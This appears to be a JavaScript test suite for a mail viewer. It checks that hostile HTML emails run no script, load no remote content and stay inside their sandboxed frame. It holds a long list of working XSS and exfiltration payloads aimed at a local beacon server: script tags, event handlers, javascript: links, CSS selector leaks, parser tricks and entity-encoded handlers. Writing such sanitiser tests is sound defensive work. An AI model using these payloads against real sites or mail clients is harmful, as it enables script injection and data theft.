// Hostile HTML neither runs, nor fetches, nor leaves its frame.
import assert from "node:assert/strict";
import http from "node:http";
import net from "node:net";
import { after, before, test } from "node:test";
import { api, close, empty, open, send, sendRaw } from "./browser.mjs";

let connections = 0;
const requests = [];
/** Whoever connects here was told to by a letter. */
const beacon = http.createServer((request, response) => {
    requests.push(request.url);
    response.end("alert(1)");
});
beacon.on("connection", () => (connections += 1));
before(() => new Promise((resolve) => beacon.listen(0, "127.0.0.1", resolve)));
after(() => beacon.close());

/** What harm a letter would do, by its name. @param {string} at the address that must not be asked */
const letters = (at) => ({
    "a script": `<script>parent.document.title='pwned';top.pwned=1;fetch('${at}/script')</script><script src="${at}/src.js"></script>`,
    "handlers of events": `<img src="x" onerror="top.pwned=1;new Image().src='${at}/onerror'"><body onload="top.pwned=1"><svg onload="top.pwned=1"></svg>`,
    "a javascript link that clicks itself": `<a id=a href="javascript:top.pwned=1">x</a><input autofocus onfocus="top.pwned=1">`,
    "a form": `<form id=f action="${at}/form" method=post><input name=q value=1><button id=b autofocus>go</button></form>`,
    "a form of a button elsewhere": `<button form=f formaction="${at}/formaction">x</button><form id=f></form>`,
    "base": `<base href="${at}/"><img src="relative.png"><a href="next">x</a>`,
    "meta refresh": `<meta http-equiv="refresh" content="0;url=${at}/refresh">`,
    "meta refresh to a script": `<meta http-equiv="refresh" content="0;url=javascript:top.pwned=1"><meta http-equiv="set-cookie" content="a=b">`,
    "a policy of its own": `<meta http-equiv="Content-Security-Policy" content="default-src *; img-src *"><img src="${at}/own-policy.png">`,
    "pictures": `<img src="${at}/a.png"><img srcset="${at}/b.png 2x"><picture><source srcset="${at}/c.png"><img></picture><input type=image src="${at}/d.png"><table background="${at}/e.png"><tr><td background="${at}/f.png"></table>`,
    "styles": `<style>@import "${at}/import.css";@import url(${at}/import2.css);@font-face{font-family:x;src:url(${at}/font.woff)}body{background:url(${at}/bg.png);font-family:x;cursor:url(${at}/cursor.cur),auto}li{list-style:url(${at}/li.png)}</style><ul><li>x</ul><p>x`,
    "styles that read the page": `<style>input[value^="a"]{background:url(${at}/leak-a)}:root{--x:url(${at}/var)}div{background:var(--x);border-image:url(${at}/border);mask:url(${at}/mask);filter:url(${at}/f.svg#x)}</style><input value=abc><div>x</div>`,
    "style attributes": `<div style="background-image:url('${at}/attr.png')">x</div><div style="behavior:url(${at}/x.htc);-moz-binding:url(${at}/x.xml)">x</div>`,
    "style sheets and hints": `<link rel=stylesheet href="${at}/sheet.css"><link rel=preload as=image href="${at}/preload"><link rel=prefetch href="${at}/prefetch"><link rel=dns-prefetch href="${at}"><link rel=preconnect href="${at}"><link rel=modulepreload href="${at}/module.js"><LINK REL=icon HREF="${at}/icon">`,
    "hints of a head": `<html><head><link rel=preconnect href="${at}"><link rel=manifest href="${at}/manifest"></head><body>x</body></html>`,
    "frames": `<iframe src="${at}/frame"></iframe><iframe srcdoc="<script>top.pwned=1</script><img src='${at}/srcdoc'>"></iframe><frameset><frame src="${at}/frameset"></frameset><object data="${at}/object"></object><embed src="${at}/embed">`,
    "a frame of this server": `<iframe src="/"></iframe><iframe src="/api/v1/messages"></iframe><img src="/api/v1/message/latest"><img src="../api/v1/messages">`,
    "sound and film": `<video src="${at}/video" poster="${at}/poster" autoplay></video><audio src="${at}/audio" autoplay></audio><track src="${at}/track">`,
    "drawings": `<svg xmlns="http://www.w3.org/2000/svg"><script>top.pwned=1</script><image href="${at}/svg-image" width=9 height=9 /><use href="${at}/use.svg#x"/><foreignObject><img src="${at}/foreign"></foreignObject><animate onbegin="top.pwned=1" attributeName=x dur=1s /><set attributeName=href to="javascript:top.pwned=1"/></svg>`,
    "formulas": `<math><maction actiontype="statusline#${at}" xlink:href="javascript:top.pwned=1">x</maction></math><math href="javascript:top.pwned=1"><mtext><img src="${at}/math"></mtext></math>`,
    "tricks of parsers": `<noscript><p title="</noscript><img src=x onerror=top.pwned=1>"></noscript><textarea><img src=${at}/ta></textarea><title><img src=${at}/title></title><!--><img src="${at}/comment"><img/src="${at}/slash"/onerror="top.pwned=1"><img src=x:alert(1) onerror\n=\n"top.pwned=1">`,
    "entities": `<a href="&#106;&#97;vascript&colon;top.pwned=1">x</a><img src="&#104;ttp&colon;//${at.slice(7)}/entity" on&#101;rror="top.pwned=1"><im\u0000g src="${at}/nul">`,
    "data and blob": `<iframe src="data:text/html,<script>top.pwned=1</script>"></iframe><a href="data:text/html,<script>1</script>" target=_self>x</a><object data="data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg=="></object>`,
    "names of the page": `<form name=getElementById></form><img name=body><a id=location href="${at}">x</a><meta name=referrer content=unsafe-url><img name=pwned src="${at}/clobber">`,
    "a closed sheet": `</style></head></body></html><script>top.pwned=1</script><img src="${at}/after"></iframe></post-letter><script>top.pwned=1</script>`,
    "pings and downloads": `<a href="#x" ping="${at}/ping" download>x</a><body background="${at}/body.png" link=red><bgsound src="${at}/bgsound"><layer src="${at}/layer">`,
});

test("hostile_letters_run_nothing_and_fetch_nothing", async () => {
    const { port } = beacon.address();
    const at = `http://127.0.0.1:${port}`;
    await empty();
    const all = Object.entries(letters(at));
    assert.ok(all.length >= 25);
    const page = await open("/");
    const home = new URL(page.url()).origin;
    page.on("dialog", () => page.errors.push("a dialog"));
    page.context().on("page", () => page.errors.push("a window"));
    for (const [name, HTML] of all) {
        const id = await send({ Subject: `<img src=x onerror=pwned=1>${name}`, HTML });
        await page.goto(`${home}/mail/${id}/html`);
        await page.locator("iframe.frame-sheet").waitFor();
        await page.waitForLoadState("load");
        await page.waitForTimeout(250);
        const state = await page.evaluate(() => ({ pwned: window.pwned instanceof Element ? "element" : window.pwned, title: document.title, cookie: document.cookie }));
        assert.deepEqual({ ...state, title: state.title.includes("pwned") }, { pwned: undefined, title: false, cookie: "" }, name);
        assert.ok(page.url().startsWith(`${home}/mail/${id}`), `${name}: the page went to ${page.url()}`);
        for (const frame of page.frames().slice(1)) assert.ok(/^(about:|data:|chrome-error:|$)/.test(frame.url()) || frame.url().startsWith(`${home}/sheet/`), `${name}: a frame is at ${frame.url()}`);
        assert.deepEqual([connections, requests], [0, []], `${name} connected to the beacon`);
    }
    // The beacon would have seen it.
    await new Promise((resolve) => net.connect(port, "127.0.0.1").once("connect", function () { this.end(); resolve(); }));
    await new Promise((resolve) => setTimeout(resolve, 100));
    assert.equal(connections, 1);
    await close(page);
});

test("names_and_parts_that_hold_html_are_text_in_every_tab", async () => {
    await empty();
    const evil = "<img src=x onerror=window.pwned=1>";
    const raw = [`From: "${evil}" <me@163.test>`, `To: "${evil}" <friend@sina.test>`, `Subject: =?utf-8?q?${evil.replace(/ /g, "_").replace(/=/g, "=3D")}?=`, `X-Evil: ${evil}`,
        'Content-Type: multipart/mixed; boundary="b"', "", "--b", "Content-Type: text/plain", "", evil, "https://x.test/<script>", "--b",
        `Content-Type: image/svg+xml; name="${evil}.svg"`, "Content-ID: <evil@x>", `Content-Disposition: attachment; filename="${evil}.svg"`, "", "<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1;parent.pwned=1'><script>parent.pwned=1</script></svg>", "--b",
        "Content-Type: text/html", "Content-ID: <page@x>", "", `<p>page <img src="cid:evil@x"><iframe src="cid:page@x"></iframe>`, "--b--", ""].join("\r\n");
    const { id } = await sendRaw(raw);
    const page = await open("/");
    const home = new URL(page.url()).origin;
    for (const tab of ["html", "text", "headers", "parts", "source", "links"]) {
        await page.goto(`${home}/mail/${id}/${tab}`);
        await page.locator(".letter h1", { hasText: evil }).waitFor();
        for (const summary of await page.locator(".tree summary").all()) await summary.click();
        await page.waitForTimeout(150);
        assert.equal(await page.evaluate(() => window.pwned), undefined, tab);
    }
    // A part opened on its own is caged, too.
    const parts = (await api("GET", `message/${id}`)).Attachments;
    assert.ok(parts.length > 0);
    for (const { PartID } of parts) {
        const response = await fetch(`${home}/api/v1/message/${id}/part/${PartID}`);
        assert.match(response.headers.get("content-security-policy"), /^sandbox; default-src 'none'/);
    }
    await close(page);
});

test("what_a_letter_would_load_is_counted", async () => {
    await empty();
    const HTML = `<img src="http://pictures.test/a.png"><img src="//pictures.test/b.png"><img src="http://track.test/p.gif" width=1 height=1><script src="https://x.test/x.js"></script>`;
    const page = await open(`/mail/${await send({ Subject: "remote", HTML })}`);
    await page.getByText("2 remote images, 1 tracker, 1 other file blocked").waitFor();
    await close(page);
});
